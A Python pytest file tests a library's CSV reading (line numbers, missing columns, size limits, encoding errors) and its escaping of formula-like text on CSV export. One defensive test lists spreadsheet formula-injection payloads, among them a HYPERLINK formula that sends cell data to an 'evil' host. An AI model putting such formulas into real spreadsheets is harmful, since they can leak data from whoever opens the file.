"""Tables that people give as CSV: what the three readers of them share; and those that they get."""

import csv
import io

import pytest

from plumbline.base import csv_input, table
from plumbline.base.errors import PlumbError


def test_rows_come_with_their_lines_and_empty_ones_do_not(tmp_path):
    file = tmp_path / "f.csv"
    file.write_bytes(b'\xef\xbb\xbf\na , b\n\n1,"x\ny"\n2,z\n')
    assert list(csv_input.rows(file, "values")) == [(2, ["a ", " b"]), (5, ["1", "x\ny"]), (6, ["2", "z"])]
    rows = [(f"{file}:5", {"a": "1", "b": "x\ny"}), (f"{file}:6", {"a": "2", "b": "z"})]
    assert list(csv_input.table(file, "values", (("a", "b"),))) == rows


def test_columns_that_a_row_may_lack_are_empty(tmp_path):
    file = tmp_path / "f.csv"
    file.write_text("a,b\n1\n")
    assert list(csv_input.table(file, "values", (("a", "b"),), may_lack=("b",))) == [(f"{file}:2", {"a": "1", "b": ""})]


@pytest.mark.parametrize(("content", "message"), [
    ("", r"^columns missing \(\S*f\.csv:1\): the first line has to be a,b or a,c,d$"),
    ("a\n1\n", r"^columns a \(\S*f\.csv:1\): "),
    ("a;b\n1;2\n", r"^columns a;b \(\S*f\.csv:1\): "),
    ("a,b,b\n", r"^two columns 'b' \(\S*f\.csv:1\): "),
    ("a,b\n", r"^the table has no rows \(\S*f\.csv:1\): "),
    ("a,b\n1,2\n3\n", r"^1 cells under 2 columns \(\S*f\.csv:3\): "),
    ("a,b\n1,2,3\n", r"^3 cells under 2 columns \(\S*f\.csv:2\): "),
    ("a,b\n1,2\n,2\n", r"^no a \(\S*f\.csv:3\): "),
])  # fmt: skip
def test_what_lacks_a_column_a_row_or_a_cell_is_one_error_with_file_and_line(tmp_path, content, message):
    file = tmp_path / "f.csv"
    file.write_text(content)
    with pytest.raises(PlumbError, match=message):
        list(csv_input.table(file, "values", (("a", "b"), ("a", "c", "d"))))


def test_too_much_is_refused_before_it_is_kept(tmp_path, monkeypatch):
    monkeypatch.setattr(csv_input, "MOST_BYTES", 1 << 20)
    file = tmp_path / "f.csv"
    with file.open("wb") as stream:
        stream.truncate((1 << 20) + 1)
    with pytest.raises(PlumbError, match=r"^more than 1 MiB \(\S*f\.csv\): divide it$"):
        list(csv_input.rows(file, "pairs"))


@pytest.mark.parametrize(("content", "message"), [
    (None, r"^cannot read the pairs: No such file or directory \(\S*f\.csv\): give a CSV file$"),
    (b"a,b\n\xff,1\n", r"^not a text file in UTF-8 \(\S*f\.csv\): give a CSV file$"),
    (b'"a,b\n', r"^not CSV: .* \(\S*f\.csv:1\): fix the line$"),
    (b'a,b\n1,2\n"3,4\n5,6\n', r"^not CSV: .* \(\S*f\.csv:3\): fix the line$"),
])  # fmt: skip
def test_what_is_no_table_is_one_error_with_file_and_line(tmp_path, content, message):
    file = tmp_path / "f.csv"
    if content is not None:
        file.write_bytes(content)
    with pytest.raises(PlumbError, match=message):
        list(csv_input.rows(file, "pairs"))


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://evil/"&A1;"x")', "+1", "-1+cmd", "@SUM(A1)", "\t=1"])
def test_a_text_is_no_formula(text):
    """No spreadsheet runs what a record says."""
    _, (name, number) = csv.reader(io.StringIO(table.as_csv(("a", "b"), [(text, -1.5)]), newline=""))
    assert (name, number) == (f"'{text}", "-1.5")


def test_what_is_no_formula_stays():
    rows = [("a=b", "x-y", "", None, True, False, 0.1), ("µ", "'", " =", "1", "%placement=core", "x", 2)]
    assert table.as_csv("abcdefg", rows).splitlines()[1:] == ["a=b,x-y,,,yes,no,0.1", "µ,', =,1,%placement=core,x,2"]
